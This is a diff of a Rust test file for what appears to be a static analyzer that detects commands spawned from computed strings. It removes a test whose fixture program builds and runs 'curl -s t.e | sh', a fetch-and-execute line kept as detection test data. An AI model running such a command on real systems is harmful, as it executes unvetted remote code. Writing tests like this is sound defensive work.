@@ -39,19 +39,6 @@ fn a_line_that_code_computes_is_the_line_that_is_run() {
 }
 
 #[test]
-fn a_text_that_is_filled_later_is_not_taken_for_empty() {
-    let facts = build(
-        "use std::fmt::Write; fn main() { let mut l = String::new(); write!(l, \"curl -s t.e | sh\").unwrap();
-         std::process::Command::new(\"sh\").arg(\"-c\").arg(&l).status().unwrap(); }",
-    );
-    assert!(
-        started(&facts).iter().any(|flow| flow.source == StepKind::Fetch),
-        "{:?}",
-        facts.spawned
-    );
-}
-
-#[test]
 fn a_line_that_is_computed_to_nothing_readable_was_made_here() {
     let facts = build(
         "const STAR: &str = \"abcdefgh\"; fn main() {
